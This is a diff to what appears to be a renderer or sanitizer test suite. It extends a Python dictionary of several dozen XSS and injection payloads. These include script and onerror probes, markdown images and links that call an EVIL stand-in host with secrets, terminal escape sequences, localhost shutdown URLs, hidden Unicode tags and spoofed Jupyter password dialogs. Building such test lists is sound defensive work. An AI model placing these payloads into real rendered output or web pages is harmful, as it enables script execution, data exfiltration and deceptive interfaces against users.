@@ -26,21 +26,52 @@ PAYLOADS = {
         "<svg/onload=alert(1)>",
         "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
     ],
-    "P05": ["<details open ontoggle=alert(1)>x</details>", "<details ontoggle=alert(1) open>"],
-    "P06": ["<iframe srcdoc='<script>alert(1)</script>'></iframe>"],
+    "P05": [
+        "<details open ontoggle=alert(1)>x</details>",
+        "<details ontoggle=alert(1) open>",
+        "<details open ontoggle=alert(1)><summary>Reasoning</summary>x</details>",
+    ],
+    "P06": [
+        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+        '<iframe srcdoc="<img src=x onerror=alert(1)>">',
+        f"<iframe srcdoc='<img src={EVIL}/x.png>'>",
+    ],
     "P07": ["<iframe src=javascript:alert(1)></iframe>", f"<iframe src={EVIL}></iframe>"],
-    "P08": [f"<object data={EVIL}/x.swf></object>", "<object data='javascript:alert(1)'>"],
-    "P09": [f"<embed src={EVIL}/x>", "<embed src='javascript:alert(1)'>"],
-    "P10": [f"<link rel=stylesheet href={EVIL}/x.css>"],
+    "P08": [
+        f"<object data={EVIL}/x.swf></object>",
+        "<object data='javascript:alert(1)'>",
+        f"<object type=text/html data={EVIL}/x.html>",
+    ],
+    "P09": [
+        f"<embed src={EVIL}/x>",
+        "<embed src='javascript:alert(1)'>",
+        f"<embed type=image/svg+xml src={EVIL}/x.svg>",
+    ],
+    "P10": [
+        f"<link rel=stylesheet href={EVIL}/x.css>",
+        f"<link href={EVIL}/x.css rel='stylesheet' onload=alert(1)>",
+        f"<LINK REL=icon HREF={EVIL}/x.ico>",
+    ],
     "P11": [
         f"<link rel=prefetch href={EVIL}>",
         f"<link rel=preconnect href={EVIL}>",
         f"<link rel=dns-prefetch href={EVIL}>",
     ],
-    "P12": [f"<style>@import url({EVIL}/x.css);</style>", "<style>*{display:none}</style>"],
-    "P13": [f"<meta http-equiv=refresh content='0;url={EVIL}'>"],
+    "P12": [
+        f"<style>@import url({EVIL}/x.css);</style>",
+        "<style>*{display:none}</style>",
+        f"<style>body{{background:url({EVIL}/x)}}</style>",
+    ],
+    "P13": [
+        f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    ],
     "P14": [f"<base href={EVIL}/>", f"<base target=_top href='{EVIL}'>"],
-    "P15": [f"<form action={EVIL}><button>x</button></form>", f"<button formaction={EVIL}>x</button>"],
+    "P15": [
+        f"<form action={EVIL}><button>x</button></form>",
+        f"<button formaction={EVIL}>x</button>",
+        f"<form action={EVIL} onsubmit=alert(1)><input type=submit></form>",
+    ],
     "P16": [f"<input type=image src={EVIL}/x.png>", "<input autofocus onfocus=alert(1)>"],
     "P17": [
         f"![a]({EVIL}/?q=secret)",
@@ -66,6 +97,9 @@ PAYLOADS = {
         f"<video poster={EVIL}/x src={EVIL}/y autoplay></video>",
         f"<audio src={EVIL}/x autoplay onplay=alert(1)>",
         f"<video><track src={EVIL}/x default></video>",
+        f"<img src={EVIL}/pixel.gif width=1 height=1>",
+        f"<svg><image href={EVIL}/x.png /></svg>",
+        f"<table background={EVIL}/x.png><tr><td>x</table>",
     ],
     "P23": [
         "[x](javascript:alert(1))",
@@ -131,6 +165,8 @@ PAYLOADS = {
     "P30": [
         "<div class='jp-Dialog jp-mod-styled'><div class=jp-Dialog-content>Password</div></div>",
         "<dialog open class=jp-Dialog>x</dialog>",
+        "<div class='jp-Notebook jp-mod-active'>x</div>",
+        "<span class='pm-badge jupyter-prem'>interrupted</span>",
     ],
     "P31": [
         "<a id=querySelector>x</a>",
@@ -138,7 +174,11 @@ PAYLOADS = {
         "<img name=cookie>",
         "# querySelector\n## body\n### cookie",
     ],
-    "P32": ["<div style='position:fixed;inset:0;z-index:99999'>x</div>", "<p style=position:fixed>x"],
+    "P32": [
+        "<div style='position:fixed;inset:0;z-index:99999'>x</div>",
+        "<p style=position:fixed>x",
+        "<div style=position:fixed;top:0;left:0;width:100vw;height:100vh>x</div>",
+    ],
     "P33": [
         "$\\href{javascript:alert(1)}{x}$",
         "$$\\href{javascript:alert(1)}{x}$$",
@@ -175,12 +215,16 @@ PAYLOADS = {
     "P38": [
         "```mermaid\ngraph TD\nA[<img src=x onerror=alert(1)>] --> B\nclick A call alert()\n```",
         "~~~mermaid\ngraph TD\nclick A 'javascript:alert(1)'\n~~~",
+        "```mermaid\n%%{init: {'securityLevel': 'loose'}}%%\ngraph TD\nA[\"<img src=x onerror=alert(1)>\"]\n```",
     ],
     "P39": [
         "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
         "<math><mi><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
     ],
-    "P40": ["<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"],
+    "P40": [
+        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+        "<noscript><img src=x onerror=alert(1)></noscript>",
+    ],
     "P41": [
         "<template><script>alert(1)</script></template>",
         "<template shadowrootmode=open><script>alert(1)</script></template>",
@@ -263,13 +307,19 @@ PAYLOADS = {
         "[google.com](https://google.com@evil.example/)",
         "[x](https://\u0430pple.com)",
     ],
-    "P56": ["hi\U000e0041\U000e0042\U000e0043there", "\U000e0001\U000e0074" * 20],
+    "P56": [
+        "hi\U000e0041\U000e0042\U000e0043there",
+        "\U000e0001\U000e0074" * 20,
+        "\U000e0061\U000e0062\U000e007f",
+    ],
     "P57": [
         "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
         "\x1b]52;c;ZXZpbA==\x07",
         "\x1b[2J\x1b[H",
         "\x9b31mred",
         "\x1bP+q\x1b\\",
+        "\x1b]0;title\x07\x1b[31mred\x1b[0m",
+        "\x1b_Gf=100;x\x1b\\ kitty",
     ],
     "P58": ["a\ud800b", "\udfff", "```\n\ud83d\n```"],
     "P61": [
@@ -288,6 +338,36 @@ PAYLOADS = {
         "<http://127.0.0.1:8888/api>",
         "[x](http://[::1]:8888/)",
         "http://localhost:8888/api/shutdown",
+    ],
+    "P59": [
+        "a" * 5_000 + "<img src=x onerror=alert(1)>",
+        "| " + "x | " * 200 + "<script>alert(1)</script> |",
+    ],
+    "P60": [
+        "[" * 300 + "<img src=x onerror=alert(1)>",
+        "> " * 60 + "<script>alert(1)</script>",
+        "- " * 60 + "<img src=x onerror=alert(1)>",
+    ],
+    "P63": [
+        "model <img src=x onerror=alert(1)> v2",
+        "tool`<script>alert(1)</script>`",
+        'file"><svg onload=alert(1)>.csv',
+        "stop](javascript:alert(1))",
+        "Error at [x](javascript:alert(1)): see <script>alert(1)</script>",
+        "a | b | <img src=x onerror=alert(1)> | `c",
+        "m</span></div><script>alert(1)</script>",
+        "m\u2028<img src=x onerror=alert(1)>",
+    ],
+    "P64": [
+        '```json\n{"a": "<script>alert(1)</script>", "b": "<img src=x onerror=alert(1)>"}\n```',
+        '{"a": "<img src=x onerror=alert(1)>"}',
+        "|  | name |\n|--:|:--|\n| 0 | <img src=x onerror=alert(1)> |\n| 1 | </td></table><script>alert(1)</script> |",
+        "<table border=1 class=dataframe><tr><td><img src=x onerror=alert(1)></td></tr></table>",
+    ],
+    "P66": [
+        "<script type=application/vnd.jupyter.widget-view+json>{}</script><img src=x onerror=alert(1)>",
+        "{% raw %}<script>alert(1)</script>{% endraw %}",
+        "<!-- -->\n</script><script>alert(1)</script>",
     ],
     "mixed": [
         "**<script>alert(1)</script>**",
